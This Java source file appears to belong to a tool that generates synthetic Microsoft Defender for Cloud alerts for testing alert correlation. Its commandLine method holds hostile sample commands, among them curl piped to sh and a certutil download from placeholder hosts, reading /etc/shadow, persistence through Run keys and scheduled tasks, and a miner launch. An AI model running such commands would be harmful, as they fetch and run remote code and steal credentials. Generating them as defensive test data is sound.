package org.alertcorrelator.generate;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import org.alertcorrelator.generate.AlertSpec.Ent;
import org.alertcorrelator.generate.Catalog.Plane;
import org.alertcorrelator.generate.Catalog.Row;
import org.alertcorrelator.generate.Estate.Resource;
import org.alertcorrelator.generate.Estate.Tenant;
import org.alertcorrelator.generate.Estate.User;
import org.alertcorrelator.generate.Estate.Vm;
import org.alertcorrelator.model.Severity;

/**
 * Builds alerts as Defender writes them: the record fields of a catalog row, and the entities of the place it
 * happened (a machine, a cloud resource), with the references between entities Defender uses ({@code $ref}).
 */
final class Alerts {
    /** Public address blocks (/16) of clouds and ISPs: where benign and unknown external addresses come from. */
    static final String[] PUBLIC_BLOCKS = {"20.50", "20.101", "20.84", "40.74", "40.112", "51.105", "52.166", "52.232",
            "13.69", "104.45", "34.102", "35.180", "34.77", "3.120", "18.196", "54.210", "81.2", "86.130", "92.40",
            "176.28", "212.58", "62.74", "77.22", "95.91", "2.57", "82.132", "88.198", "109.190", "151.80", "178.62",
            "185.15", "194.176", "31.13", "46.101", "73.45", "98.207", "24.14", "68.180", "99.84", "142.250"};
    /** /24 blocks of Tor exits and hosting often seen in attacks, and the documentation ranges. */
    static final String[] HOSTILE_BLOCKS = {"185.220.100", "185.220.101", "185.220.102", "185.220.103", "45.155.205",
            "193.142.146", "91.240.118", "5.188.206", "80.66.88", "141.98.10", "141.98.11", "194.26.29", "89.248.165",
            "92.63.197", "45.143.200", "179.43.187", "23.129.64", "104.244.72", "104.244.73", "104.244.74", "198.98.51",
            "171.25.193", "109.70.100", "162.247.74", "45.95.147", "61.177.172", "218.92.0", "222.186.42", "103.99.0",
            "212.70.149", "192.0.2", "198.51.100", "203.0.113"};
    /** The Azure platform address every Azure VM talks to (DNS, DHCP, health): on every machine. */
    static final String AZURE_WIRESERVER = "168.63.129.16";

    static final String PRODUCT = "Microsoft Defender for Cloud";
    private static final long TICKS_AT_EPOCH = 621_355_968_000_000_000L;
    private static final long MAX_TICKS = 3_155_378_975_999_999_999L;

    private final Rnd rnd;
    // Per tenant: external address -> last time used (epoch ms), so that noise never reuses one within the gap.
    private final Map<Integer, Map<Integer, Long>> externalUse = new HashMap<>();
    private final List<IpAsset> hostile = new ArrayList<>();

    /** A hostile address, reserved by campaigns and used by scanners like any other asset. */
    static final class IpAsset extends Estate.Asset {
        final String address;

        IpAsset(String address) {
            this.address = address;
        }
    }

    Alerts(Rnd rnd) {
        this.rnd = rnd;
        for (String block : HOSTILE_BLOCKS) {
            for (int i = 1; i < 255; i++) hostile.add(new IpAsset(block + "." + i));
        }
    }

    /** An external address no noise alert of the tenant used within {@code gap} of {@code t}. */
    String externalIp(Tenant tenant, long t, long gap) {
        Map<Integer, Long> used = externalUse.computeIfAbsent(tenant.index, k -> new HashMap<>());
        while (true) {
            int block = rnd.nextInt(PUBLIC_BLOCKS.length);
            int low = rnd.nextInt(65536);
            if ((low & 0xff) == 0 || (low & 0xff) == 255) continue;
            int key = block << 16 | low;
            Long last = used.get(key);
            if (last != null && last + gap >= t) continue;
            used.put(key, t);
            return PUBLIC_BLOCKS[block] + "." + (low >>> 8) + "." + (low & 0xff);
        }
    }

    /** A free hostile address at {@code t} (for a scanner), or null. */
    IpAsset hostileFreeAt(long t, long gap) {
        for (int i = 0; i < 16; i++) {
            IpAsset a = rnd.pick(hostile);
            if (a.freeAt(t, gap)) return a;
        }
        return null;
    }

    /** A hostile address free for [from, to] (for a campaign), or null. */
    IpAsset hostileFreeFor(long from, long to, long gap) {
        for (int i = 0; i < 32; i++) {
            IpAsset a = rnd.pick(hostile);
            if (a.freeFor(from, to, gap) && a.lastUse < from - gap) return a;
        }
        return null;
    }

    // ---- the record ----

    /** The record fields of a row, at a time; entities are added by the caller. */
    AlertSpec base(Tenant tenant, Row row, Severity severity, long startMs, long durationMs, String subscriptionId,
                   String resourceGroup) {
        AlertSpec a = new AlertSpec();
        long start = startMs * 1_000_000L + rnd.nextInt(1_000_000) / 100 * 100;
        a.startNanos = start;
        a.endNanos = start + durationMs * 1_000_000L;
        a.generatedNanos = a.endNanos + (long) rnd.between(20, 900) * 1_000_000_000L + rnd.nextInt(10_000_000) * 100L;
        long ticks = TICKS_AT_EPOCH + startMs * 10_000L;
        a.id = (MAX_TICKS - ticks) + "_" + rnd.guid();
        a.tenantId = tenant.id;
        a.subscriptionId = subscriptionId;
        a.resourceGroup = resourceGroup;
        a.location = tenant.location;
        a.alertType = row.types().size() == 1 ? row.types().get(0) : rnd.pick(row.types());
        a.displayName = row.name().indexOf("%{") < 0 ? row.name()
                : row.name().replaceAll("%\\{[^}]*\\}", rnd.pick(new String[]{"SSH", "RDP", "SMB", "SQL", "HTTP"}));
        a.severity = severity;
        a.tactics = row.tactics();
        a.writeTactics = !row.tactics().isEmpty() && !rnd.chance(0.1);
        a.remediation = REMEDIATION[rnd.nextInt(REMEDIATION.length)];
        return a;
    }

    Severity severityOf(Row row) {
        return row.severities().size() == 1 ? row.severities().get(0) : rnd.pick(row.severities());
    }

    static final String[] REMEDIATION = {
            "1. Escalate the alert to the information security team.\n2. Review the activity and the processes involved.",
            "Review the affected resource and the user and application that performed the operation. If the activity is unexpected, rotate credentials and block the source.",
            "Validate whether the activity is legitimate. If not, isolate the machine, reset the credentials involved and run a full antimalware scan.",
            "Investigate the IP addresses and accounts involved; if the access is not recognised, revoke access and review recent changes."};

    void describe(AlertSpec a, String where) {
        a.compromisedEntity = where;
        a.description = a.displayName + " was detected on " + where + ". "
                + DESCRIPTIONS[Math.floorMod(a.displayName.hashCode(), DESCRIPTIONS.length)];
    }

    static final String[] DESCRIPTIONS = {
            "This behaviour is often associated with attackers attempting to run code or evade defences; review the surrounding activity.",
            "Analysis of the activity shows a pattern commonly used by threat actors. The activity may be legitimate administrative work.",
            "The detection is based on behavioural analytics and threat intelligence. Verify whether the activity was expected.",
            "Microsoft threat intelligence associates this activity with known attack tooling; it may also be caused by a penetration test."};

    // ---- entities ----

    Ent host(AlertSpec a, Vm vm) {
        Ent h = a.entity("host").put("HostName", vm.name);
        if (vm.dnsDomain != null) h.put("DnsDomain", vm.dnsDomain);
        h.put("NetBiosName", vm.windows ? vm.name.toUpperCase(Locale.ROOT) : null);
        h.put("OSFamily", vm.windows ? "Windows" : "Linux");
        h.put("AzureID", vm.resourceId);
        return h;
    }

    /** A domain or cloud user: UPN with AAD id. */
    Ent upnAccount(AlertSpec a, Tenant t, User u) {
        return a.entity("account").put("Name", u.upnName).put("UPNSuffix", t.domain).put("AadUserId", u.aadId)
                .put("DisplayName", cap(u.first) + " " + cap(u.last));
    }

    /** A domain account as Windows names it: DOMAIN\name. */
    Ent domainAccount(AlertSpec a, Tenant t, String sam, Ent host) {
        Ent e = a.entity("account").put("Name", sam).put("NTDomain", t.netbios).put("IsDomainJoined", Boolean.TRUE);
        if (host != null) e.put("Host", host);
        return e;
    }

    /** A local account of the machine (its domain is the machine's name). */
    Ent localAccount(AlertSpec a, Vm vm, String name, Ent host) {
        Ent e = a.entity("account").put("Name", name).put("NTDomain", vm.name.toUpperCase(Locale.ROOT));
        if (host != null) e.put("Host", host);
        return e;
    }

    /** A generic account: a bare name (ADMINISTRATOR, root) or a well-known SID (LocalSystem ...). */
    Ent genericAccount(AlertSpec a, boolean windows, Ent host) {
        Ent e = a.entity("account");
        if (windows) {
            switch (rnd.nextInt(4)) {
                case 0 -> e.put("Name", "SYSTEM").put("Sid", "S-1-5-18");
                case 1 -> e.put("Name", "NETWORK SERVICE").put("Sid", "S-1-5-20");
                case 2 -> e.put("Name", "ADMINISTRATOR");
                default -> e.put("Sid", "S-1-5-18");
            }
        } else {
            e.put("Name", rnd.chance(0.8) ? "root" : "ADMIN");
        }
        if (host != null) e.put("Host", host);
        return e;
    }

    Ent ip(AlertSpec a, String address) {
        return a.entity("ip").put("Address", address);
    }

    Ent process(AlertSpec a, boolean windows, Ent account, Ent host, String commandLine) {
        String image = windows ? WIN_IMAGES[rnd.nextInt(WIN_IMAGES.length)] : LINUX_IMAGES[rnd.nextInt(LINUX_IMAGES.length)];
        int slash = Math.max(image.lastIndexOf('\\'), image.lastIndexOf('/'));
        Ent file = a.entity("file").put("Directory", image.substring(0, slash)).put("Name", image.substring(slash + 1));
        Ent p = a.entity("process").put("ProcessId", "0x" + Integer.toHexString(rnd.between(0x100, 0xfffe)))
                .put("CommandLine", commandLine != null ? commandLine : commandLine(windows))
                .put("ElevationToken", windows ? (rnd.chance(0.5) ? "Full" : "Default") : null)
                .put("CreationTimeUtc", null)
                .put("ImageFile", file);
        if (account != null) p.put("Account", account);
        if (host != null) p.put("Host", host);
        return p;
    }

    Ent fileHash(AlertSpec a, String sha256, String fileName, boolean windows) {
        Ent hash = a.entity("filehash").put("Algorithm", "SHA256").put("Value", sha256);
        a.entity("file").put("Directory", windows ? "C:\\Users\\Public\\Downloads" : "/tmp").put("Name", fileName)
                .put("FileHashes", List.of(hash));
        return hash;
    }

    String randomHash() {
        return rnd.hex(64);
    }

    String commandLine(boolean windows) {
        if (windows) {
            return switch (rnd.nextInt(6)) {
                case 0 -> "powershell.exe -nop -w hidden -enc " + rnd.upperAlnum(24);
                case 1 -> "cmd.exe /c whoami /all & net group \"domain admins\" /domain";
                case 2 -> "rundll32.exe C:\\Windows\\Temp\\" + rnd.hex(8) + ".dll,DllRegisterServer";
                case 3 -> "schtasks /create /tn \"Update" + rnd.between(1, 99) + "\" /tr C:\\ProgramData\\upd.exe /sc onlogon";
                case 4 -> "reg.exe add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v svc /d C:\\ProgramData\\svc.exe";
                default -> "certutil.exe -urlcache -split -f http://" + rnd.hex(6) + ".example/a.exe a.exe";
            };
        }
        return switch (rnd.nextInt(5)) {
            case 0 -> "bash -c curl -s http://" + rnd.hex(6) + ".example/x.sh | sh";
            case 1 -> "/usr/bin/python3 -c import base64;exec(base64.b64decode('" + rnd.upperAlnum(16) + "'))";
            case 2 -> "crontab -l";
            case 3 -> "cat /etc/shadow";
            default -> "/tmp/." + rnd.hex(6) + " -o pool.example:3333";
        };
    }

    static final String[] WIN_IMAGES = {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\schtasks.exe",
            "C:\\Windows\\System32\\reg.exe", "C:\\Windows\\System32\\certutil.exe", "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"};
    static final String[] LINUX_IMAGES = {"/usr/bin/bash", "/usr/bin/python3", "/usr/bin/curl", "/usr/bin/crontab",
            "/usr/bin/cat", "/usr/sbin/sshd", "/usr/bin/wget"};

    Ent azureResource(AlertSpec a, String resourceId) {
        return a.entity("azure-resource").put("ResourceId", resourceId);
    }

    Ent cloudApp(AlertSpec a, String name, String appId) {
        return a.entity("cloud-application").put("Name", name).put("AppId", appId);
    }

    Ent dns(AlertSpec a, String domain) {
        return a.entity("dns").put("DomainName", domain);
    }

    // ---- whole alerts for a place ----

    /**
     * An alert on a machine: the machine, its resource, and (as the row's plane suggests) a process run by an
     * account. The caller adds the accounts and addresses that tie it to other alerts.
     */
    AlertSpec onMachine(Tenant t, Row row, Severity severity, long startMs, long durationMs, Vm vm) {
        AlertSpec a = base(t, row, severity, startMs, durationMs, vm.subscriptionId, vm.resourceGroup);
        a.resourceId = vm.resourceId;
        describe(a, vm.name);
        a.extended("Compromised Host", vm.fqdn().toUpperCase(Locale.ROOT));
        a.extended("resourceType", vm.resourceId.contains("HybridCompute") ? "Azure Arc machine" : "Virtual Machine");
        return a;
    }

    /** An alert on a cloud resource (storage, key vault, web app, database, cluster, subscription, public IP). */
    AlertSpec onResource(Tenant t, Row row, Severity severity, long startMs, long durationMs, Resource r) {
        AlertSpec a = base(t, row, severity, startMs, durationMs, r.subscriptionId, r.resourceGroup == null ? "" : r.resourceGroup);
        a.resourceId = r.resourceId;
        describe(a, r.name);
        a.extended("resourceType", switch (r.plane) {
            case STORAGE -> "Storage";
            case KEY_VAULT -> "Key Vault";
            case APP_SERVICE -> "App Service";
            case SQL -> "SQL Database";
            case COSMOS_DB -> "Azure Cosmos DB";
            case KUBERNETES -> "Kubernetes Service";
            case DDOS -> "Public IP Address";
            default -> "Subscription";
        });
        azureResource(a, r.resourceId);
        if (r.plane == Plane.KUBERNETES) {
            String ns = rnd.pick(new String[]{"default", "kube-system", "prod", "payments", "web", "monitoring"});
            a.entity("K8s-cluster").put("ResourceId", r.resourceId).put("Name", r.name);
            a.entity("K8s-namespace").put("Name", ns);
            a.entity("K8s-pod").put("Name", rnd.pick(Estate.SITES) + "-" + rnd.hex(10) + "-" + rnd.hex(5)).put("Namespace", ns);
        }
        if (r.plane == Plane.APP_SERVICE) {
            a.entity("url").put("Url", "https://" + r.name + ".azurewebsites.net/" + rnd.pick(new String[]{"wp-login.php", "admin", ".env", "api/v1/upload", "index.php", "uploads/" + rnd.hex(6) + ".php"}));
        }
        return a;
    }

    private static String cap(String s) {
        return s.isEmpty() ? s : Character.toUpperCase(s.charAt(0)) + s.substring(1);
    }
}
